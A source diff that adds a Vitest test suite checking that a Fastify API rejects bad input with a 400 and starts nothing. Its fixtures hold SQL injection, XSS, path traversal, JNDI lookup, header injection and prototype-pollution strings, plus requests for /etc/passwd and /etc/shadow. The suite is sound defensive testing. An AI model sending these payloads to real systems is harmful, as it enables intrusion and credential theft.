@@ -1,0 +1,260 @@
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { importPath } from '../../api/routes/control';
+import { ApiError } from '../../api/http';
+import type { Stack } from '../../lib/stack';
+import { bearer, buildTestApi, createTestKeys, type TestKeys } from '../helpers/apiApp';
+import { requireStack } from '../helpers/stack';
+
+/**
+ * Bad input on every parameter: injection strings, wrong types, out-of-range values, malformed,
+ * oversized and wrongly typed bodies. Each must get a 400 in the API's one error shape, never a 500,
+ * and must not start anything. Free-text parameters (post search `q`, a platform `query`, a key name)
+ * take quotes literally: there the injection strings are searched for / stored as text, which is
+ * checked too. The calls use an admin key, so no refusal is an authorization one.
+ */
+
+let stack: Stack;
+let app: FastifyInstance;
+let keys: TestKeys;
+const taskQueue = `test-api-input-${crypto.randomUUID().slice(0, 8)}`;
+
+const INJECTIONS = [
+  "' OR '1'='1",
+  "1; DROP TABLE runs; --",
+  '" OR ""="',
+  "1' UNION SELECT hash FROM api_keys --",
+  '<script>alert(1)</script>',
+  '../../etc/passwd',
+  '${jndi:ldap://evil/a}',
+  '{"$gt": ""}',
+  'x\u0000y',
+  'line\r\nInjected-Header: 1',
+  'a'.repeat(5000),
+];
+
+const expect400 = (res: LightMyRequestResponse, what: string) => {
+  expect(res.statusCode, `${what}: ${res.body.slice(0, 200)}`).toBe(400);
+  const body = res.json();
+  expect(Object.keys(body), what).toEqual(['error']);
+  expect(body.error).toMatchObject({ status: 400, code: expect.stringMatching(/^(invalid_request|body_too_large)$/) });
+  expect(body.error.message.length, what).toBeGreaterThan(5);
+  expect(typeof body.error.requestId).toBe('string');
+};
+
+beforeAll(async () => {
+  stack = await requireStack();
+  keys = await createTestKeys(stack, `input-${taskQueue}`);
+  // hundreds of calls with one key: the rate limit (tested elsewhere) would answer 429 before validation
+  app = await buildTestApi(stack, taskQueue, { rateLimit: { max: 100_000, timeWindowMs: 60_000 } });
+});
+
+afterAll(async () => {
+  await app?.close();
+  await keys?.cleanup();
+  await stack?.close();
+});
+
+const admin = () => bearer(keys.byRole.admin.key);
+const get = (url: string, query?: Record<string, string>) => app.inject({ method: 'GET', url, query, headers: admin() });
+
+/** Query parameters of every list and insight route, each with extra bad values of its own. */
+const QUERY_PARAMS: Record<string, Record<string, string[]>> = {
+  '/v1/runs': { kind: ['nope'], status: ['done'], limit: ['0', '201', '-1', '1.5', '1e3', 'ten'], cursor: ['!!', 'AAAA', Buffer.from('[1]').toString('base64url')] },
+  '/v1/posts': {
+    from: ['2024-02-30', '2023-13-01', '24-01-01', '2024-1-1', 'yesterday', '2024-01-01T00:00:00Z'],
+    to: ['2024-02-30', 'today'],
+    platform: ['X Corp', 'UPPER', '-x'],
+    topic: ['-1', 'one', '1.5', '100001'],
+    sentiment: ['happy', 'POSITIVE'],
+    hashtag: ['two words', '#a#b', '#'],
+    run: ['has space', '-leading-dash'],
+    limit: ['0', '1000'],
+    cursor: ['AAAA', Buffer.from('["x","y"]').toString('base64url'), Buffer.from('[1,2,3]').toString('base64url')],
+  },
+  '/v1/trends': { run: ['has space'], kind: ['tag'], limit: ['0', '101'] },
+  '/v1/topics': { run: ['has space'] },
+  '/v1/segments': { run: ['has space'] },
+  '/v1/models': { name: ['Sentiment!', 'a b'], status: ['live'], limit: ['0'], cursor: [Buffer.from('[1,"x"]').toString('base64url')] },
+  '/v1/datasets': { stage: ['Clean', 'a b'], source: ['X Corp'], run: ['has space'], from: ['2024-02-30'], to: ['2024-02-31'], limit: ['0'], cursor: ['AAAA'] },
+  '/v1/audit': { limit: ['0'], cursor: [Buffer.from('["x"]').toString('base64url')] },
+  '/v1/users/u1/recommendations': { limit: ['0', '51'] },
+};
+
+/** Path parameters, by a URL template with `{}` where the parameter goes. */
+const PATH_PARAMS: Array<{ method: 'GET' | 'POST' | 'DELETE'; template: string; extra: string[] }> = [
+  { method: 'GET', template: '/v1/runs/{}', extra: ['-x', 'a b'] },
+  { method: 'GET', template: '/v1/runs/{}/report', extra: ['-x'] },
+  { method: 'GET', template: '/v1/users/{}/recommendations', extra: ['a b', '.hidden'] },
+  { method: 'GET', template: '/v1/datasets/{}/download', extra: ['0', '-1', '1.5', 'abc', '99999999999999999999'] },
+  { method: 'GET', template: '/v1/backfills/{}', extra: ['pipeline-x', 'backfill-'] },
+  { method: 'POST', template: '/v1/backfills/{}/pause', extra: ['pipeline-x'] },
+  { method: 'POST', template: '/v1/backfills/{}/resume', extra: ['pipeline-x'] },
+  { method: 'POST', template: '/v1/backfills/{}/cancel', extra: ['pipeline-x'] },
+  { method: 'DELETE', template: '/v1/keys/{}', extra: ['0', 'abc', '1;2'] },
+];
+
+/** JSON bodies: a valid one and, per field, values that must be refused. */
+const BODIES: Array<{ url: string; valid: Record<string, unknown>; bad: Record<string, unknown[]>; freeText?: string[] }> = [
+  {
+    url: '/v1/runs',
+    valid: { source: 'simulated', date: '2021-02-01', posts: 10 },
+    bad: {
+      source: ['nope', 'SIMULATED', 1, null, ['simulated']],
+      date: ['2021-02-30', '2021/02/01', 20210201, true],
+      days: [0, 367, 1.5, '2', true, -1],
+      posts: [0, 1_000_001, '10', true, 1.5, {}],
+      seed: [-1, 2 ** 31, 'x'],
+      users: [0, 'x'],
+      languages: ['en', ['english'], ['e n'], [1]],
+      maxQuarantinedShare: [-0.1, 1.1, '0.5'],
+      since: ['2021-02-30'],
+      until: ['x'],
+      file: ['posts.csv', { mapping: {} }, { path: '' }, { path: 'a\u0000b' }, { path: 'p.csv', extra: 1 }, { path: 'p.csv', mapping: { text: 1 } }, { path: 'p.csv', platform: 'X Corp' }],
+      unknownField: [1],
+    },
+    freeText: ['query'],
+  },
+  {
+    url: '/v1/collections',
+    valid: { source: 'simulated', since: '2021-02-01', until: '2021-02-02', maxPosts: 10 },
+    bad: { source: ['file', 'nope', null], since: ['2021-02-30', 5], until: ['2021-13-01'], maxPosts: [0, 'many'], query: ['', 'a\u0007b', 'q'.repeat(201)], extra: [true] },
+    freeText: ['query'],
+  },
+  {
+    url: '/v1/backfills',
+    valid: { from: '2021-02-01', to: '2021-02-02', posts: 10 },
+    bad: { from: ['2021-02-30', null, 1], to: ['2021/02/02'], source: ['file', 'x y'], concurrency: [0, 65, 'four'], posts: [0, false], pipeline: [{}] },
+  },
+  {
+    url: '/v1/retrain',
+    valid: { date: '2021-02-01', days: 2, posts: 10 },
+    bad: { date: ['2021-02-29'], days: [0, 400], source: ['file'], posts: ['x'], topics: [1, 201], sentimentTrainFile: ['', 'a\u0000b'], force: [true] },
+  },
+  {
+    url: '/v1/keys',
+    valid: { role: 'viewer', name: 'input-test' },
+    bad: { role: ['root', 'Admin', '', null, ['admin']], name: ['', 'x'.repeat(101), 'two\nlines', 42], key: ['ssk_0000000000000000_' + 'A'.repeat(43)] },
+  },
+];
+
+describe('bad input gets 400 in one shape, never 500', () => {
+  it('query parameters: injection strings and out-of-range values on every parameter, and unknown parameters', async () => {
+    let checked = 0;
+    for (const [url, params] of Object.entries(QUERY_PARAMS)) {
+      for (const [param, extra] of Object.entries(params)) {
+        for (const value of [...INJECTIONS, ...extra]) {
+          expect400(await get(url, { [param]: value }), `${url}?${param}=${JSON.stringify(value.slice(0, 40))}`);
+          checked++;
+        }
+      }
+      expect400(await get(url, { nosuchparameter: '1' }), `${url} with an unknown parameter`);
+    }
+    expect(checked).toBeGreaterThan(250);
+  });
+
+  it('path parameters: injection strings and malformed ids on every parameter', async () => {
+    for (const p of PATH_PARAMS) {
+      for (const value of [...INJECTIONS, ...p.extra]) {
+        const url = p.template.replace('{}', encodeURIComponent(value));
+        const res = await app.inject({ method: p.method, url, headers: admin() });
+        expect400(res, `${p.method} ${url.slice(0, 80)}`);
+      }
+    }
+  });
+
+  it('JSON bodies: injection strings and wrong types on every field, unknown fields, and no workflow started', async () => {
+    for (const b of BODIES) {
+      const fields = Object.keys(b.bad);
+      for (const field of fields) {
+        const values = [...b.bad[field], ...(b.freeText?.includes(field) ? [] : INJECTIONS.filter(() => field !== 'name'))];
+        for (const value of values) {
+          const res = await app.inject({ method: 'POST', url: b.url, headers: admin(), payload: { ...b.valid, [field]: value } });
+          expect400(res, `POST ${b.url} ${field}=${JSON.stringify(value)?.slice(0, 60)}`);
+        }
+      }
+    }
+    // nothing reached Temporal: no workflow was started on this test's task queue
+    const started = stack.client.workflow.list({ query: `TaskQueue = "${taskQueue}"` });
+    const ids: string[] = [];
+    for await (const w of started) ids.push(w.workflowId);
+    expect(ids).toEqual([]);
+  });
+
+  it('malformed, oversized and mistyped bodies', async () => {
+    const post = (payload: string | Buffer, contentType = 'application/json') => app.inject({ method: 'POST', url: '/v1/runs', headers: { ...admin(), 'content-type': contentType }, payload });
+    expect400(await post('{"source": "simulated",'), 'truncated JSON');
+    expect400(await post('{source: simulated}'), 'not JSON');
+    expect400(await post('[]'), 'an array');
+    expect400(await post('"simulated"'), 'a string');
+    expect400(await post('null'), 'null');
+    expect400(await post('{"__proto__": {"admin": true}}'), 'prototype pollution');
+    expect400(await post('{"constructor": {"prototype": {"x": 1}}}'), 'constructor pollution');
+    expect400(await post('{"source": "simulated"}', 'text/plain'), 'text/plain');
+    expect400(await post('source=simulated', 'application/x-www-form-urlencoded'), 'a form');
+    expect400(await post(Buffer.from([0xff, 0xfe, 0x00, 0x7b])), 'bytes that are not UTF-8 JSON');
+    const big = await post(JSON.stringify({ source: 'simulated', query: 'x'.repeat(200), padding: 'y'.repeat(100 * 1024) }));
+    expect400(big, 'a 100 KiB body');
+    expect(big.json().error.code).toBe('body_too_large');
+    const deep = '{"file":'.repeat(2000) + '{}' + '}'.repeat(2000);
+    expect400(await post(deep), 'deeply nested JSON');
+    // the same for the other body routes
+    for (const url of ['/v1/collections', '/v1/backfills', '/v1/retrain', '/v1/keys']) {
+      expect400(await app.inject({ method: 'POST', url, headers: { ...admin(), 'content-type': 'application/json' }, payload: '{"a":' }), `${url} truncated JSON`);
+      expect400(await app.inject({ method: 'POST', url, headers: admin(), payload: { unexpected: 1 } }), `${url} unknown field`);
+    }
+  });
+
+  it('free text is searched for literally: an injection string finds nothing and breaks nothing', async () => {
+    const { rows } = await stack.db.query(`SELECT count(*)::int AS n FROM post_scores`);
+    for (const q of INJECTIONS.filter((v) => !/[\u0000-\u001f]/.test(v) && v.length <= 200)) {
+      const res = await get('/v1/posts', { q });
+      expect(res.statusCode, q).toBe(200);
+      for (const p of res.json().items) expect(p.text.toLowerCase()).toContain(q.toLowerCase());
+    }
+    // `%` and `_` are not wildcards: a search for them finds only posts that contain them
+    for (const q of ['%', '_', '\\']) {
+      const res = await get('/v1/posts', { q, limit: '200' });
+      expect(res.statusCode).toBe(200);
+      for (const p of res.json().items) expect(p.text).toContain(q);
+    }
+    // control characters and over-long text are refused
+    expect400(await get('/v1/posts', { q: 'a\u0000b' }), 'q with NUL');
+    expect400(await get('/v1/posts', { q: 'q'.repeat(201) }), 'q of 201 characters');
+    expect((await stack.db.query(`SELECT count(*)::int AS n FROM post_scores`)).rows[0].n).toBeGreaterThanOrEqual(rows[0].n);
+  });
+
+  it('a key name is stored as the text given, quotes and all', async () => {
+    const name = "Robert'); DROP TABLE api_keys; --";
+    const res = await app.inject({ method: 'POST', url: '/v1/keys', headers: admin(), payload: { role: 'viewer', name } });
+    expect(res.statusCode).toBe(201);
+    const id = res.json().id;
+    keys.ids.push(id);
+    expect((await stack.db.query(`SELECT name FROM api_keys WHERE id = $1`, [id])).rows[0].name).toBe(name);
+  });
+
+  it('files named in control calls must be inside the import folder, and are refused when none is configured', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'api-import-'));
+    try {
+      fs.writeFileSync(path.join(dir, 'posts.csv'), 'id,text\n1,hi\n');
+      fs.symlinkSync('/etc/passwd', path.join(dir, 'escape.csv'));
+      expect(importPath(dir, 'posts.csv', 'file.path')).toBe(path.join(dir, 'posts.csv'));
+      expect(importPath(dir, path.join(dir, 'sub', 'later.csv'), 'file.path')).toBe(path.join(dir, 'sub', 'later.csv'));
+      for (const outside of ['../posts.csv', '/etc/passwd', 'sub/../../x.csv', 'escape.csv', dir]) {
+        expect(() => importPath(dir, outside, 'file.path'), outside).toThrow(ApiError);
+      }
+      expect(() => importPath(null, 'posts.csv', 'file.path')).toThrow(/SOCIALSENSE_API_IMPORT_DIR/);
+      // through the API (no import folder configured): 400, nothing started
+      const res = await app.inject({ method: 'POST', url: '/v1/runs', headers: admin(), payload: { source: 'file', file: { path: '/etc/passwd' } } });
+      expect400(res, 'file import of /etc/passwd');
+      expect(res.json().error.message).toContain('SOCIALSENSE_API_IMPORT_DIR');
+      expect400(await app.inject({ method: 'POST', url: '/v1/retrain', headers: admin(), payload: { date: '2021-02-01', sentimentTrainFile: '/etc/shadow' } }), 'training file /etc/shadow');
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
